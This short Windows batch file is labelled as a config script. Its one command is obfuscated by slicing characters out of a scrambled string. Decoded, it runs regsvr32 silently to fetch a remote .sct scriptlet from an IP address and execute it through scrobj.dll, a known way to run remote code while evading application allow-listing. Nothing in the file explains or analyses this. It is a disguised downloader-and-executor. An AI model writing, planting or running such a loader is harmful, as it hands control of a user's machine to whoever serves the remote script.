REM config 4238 v1
@echo off
set "axbh=TrJ38onHYuLlif0bNs1d95the.gF:vcpkj2/"
%axbh:~-35,1%%axbh:~24,1%%axbh:~-10,1%%axbh:~17,1%%axbh:~29,1%%axbh:~1,1%%axbh:~-33,1%%axbh:~34,1% %axbh:~35,1%%axbh:~17,1% %axbh:~35,1%%axbh:~6,1% %axbh:~35,1%%axbh:~9,1% %axbh:~35,1%%axbh:~12,1%%axbh:~28,1%%axbh:~-13,1%%axbh:~22,1%%axbh:~-14,1%%axbh:~31,1%%axbh:~28,1%%axbh:~-1,1%%axbh:~-1,1%%axbh:~-18,1%%axbh:~-16,1%%axbh:~-32,1%%axbh:~25,1%%axbh:~21,1%%axbh:~18,1%%axbh:~25,1%%axbh:~18,1%%axbh:~-22,1%%axbh:~-22,1%%axbh:~25,1%%axbh:~34,1%%axbh:~3,1%%axbh:~35,1%%axbh:~-23,1%%axbh:~12,1%%axbh:~11,1%%axbh:~24,1%%axbh:~-11,1%%axbh:~-19,1%%axbh:~30,1%%axbh:~22,1% %axbh:~-19,1%%axbh:~30,1%%axbh:~-35,1%%axbh:~-31,1%%axbh:~15,1%%axbh:~33,1%%axbh:~25,1%%axbh:~-17,1%%axbh:~11,1%%axbh:~11,1%
